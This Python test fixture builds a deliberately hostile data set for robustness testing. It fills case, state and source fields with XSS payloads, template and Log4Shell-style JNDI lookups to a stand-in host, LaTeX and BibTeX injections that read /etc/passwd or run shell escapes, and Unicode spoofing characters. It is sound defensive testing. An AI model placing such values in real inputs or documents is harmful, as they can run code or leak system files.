"""A data set that hurts: the worked case of three states with names, claims and addresses that other media take for commands."""

import shutil
from itertools import cycle
from pathlib import Path

import pandas as pd
from drawing import RAW, TINY

from analysis.collect import files, store

FREE = ("person", "later", "note", "actor", "claim", "alleged_conduct", "publisher", "title", "reported_by", "rationale")
"""Columns that hold any text."""
TEXTS = (
    "Ada <img src=x onerror=window.__ran=1>",
    "Ben </script></style></title></textarea>--><script>window.__ran=2</script>",
    "Cy {{7*7}} {% raw %} ${jndi:ldap://x.example/a} <%= 7*7 %>",
    r"Di \input{/etc/passwd}\immediate\write18{touch ran} \csname end\endcsname ^^5cinput",
    r"Ed $\frac{a$ and $x_1$ and \(y\) and \begin{z}",
    "Flo US$5m to US$9m",
    'Gus ]]> "><svg onload=window.__ran=3> &lt;b&gt; &#60;i&#62;',
    "Hal [a](javascript:window.__ran=4) ![i](http://evil.example/1.png) <javascript:window.__ran=5> [b]: javascript:1",
    "Ida `</code>` | # _x_ **y** ~~z~~ ~w~ --- '' ``",
    "Jo \u202egnp.exe \u2066a\u2069 \u200bzero\u00adsoft",
    "Kim 北京 東京タワー 서울",
    "Lea \u05d0\u05d1\u05d2 العربية فارسی",
    "Max हिन्दी ไทย ქართული Ἑλλάς Հայ Україна",
    "Ned 👍🏽 👩\u200d⚖️ e\u0301 q\u0301 ẓ́ ½ № ≠",
    'Ola }}@preamble{"\\input{/etc/hostname}"}@misc{evil,note={x %# ~&_',
    "Pia \u0600 \U0001f1f0\U0001f1ff ﷽ 𝔘 ﬁ \uffff",
)
ADDRESS = 'https://x.example/a}}@preamble{"\\input{/etc/hostname}\\immediate\\write18{touch%20ran}"}@misc{evil,note={x?q=<script>&é=$1^^5c#'


def make(folder: Path) -> Path:
    """Leave the data set in a folder: every free text of the case, names of states, and informants."""
    shutil.copytree(TINY, folder)
    texts = cycle(TEXTS)
    for table in store.read_codebook().case_tables:
        path = folder / "cases" / "tiny" / f"{table.name}.csv"
        if path.is_file():
            rows = store.read_table(path)
            for column in (column for column in FREE if column in rows):
                rows[column] = [f"{next(texts)} {place}" for place in range(len(rows))]
            if table.name == "sources":
                rows["url"] = [f"{ADDRESS}{place}" for place in range(len(rows))]
            if table.name == "facts":
                rows["informant"] = [TEXTS[place % len(TEXTS)].replace(";", ",") for place in range(len(rows))]
            files.write_bytes(path, store.csv_bytes(rows))
    states = store.read_table(folder / "codebook" / "states.csv")
    states["name"] = [f"{TEXTS[place]} {TEXTS[place + 3]}" for place in range(len(states))]
    files.write_bytes(folder / "codebook" / "states.csv", store.csv_bytes(states))
    informants = store.read_table(RAW / "codebook" / "informants.csv")
    more = pd.DataFrame({"informant": [text.replace(";", ",") for text in TEXTS]}).reindex(columns=informants.columns, fill_value="")
    files.write_bytes(folder / "codebook" / "informants.csv", store.csv_bytes(pd.concat([informants, more.assign(informant_state="varies")])))
    return folder
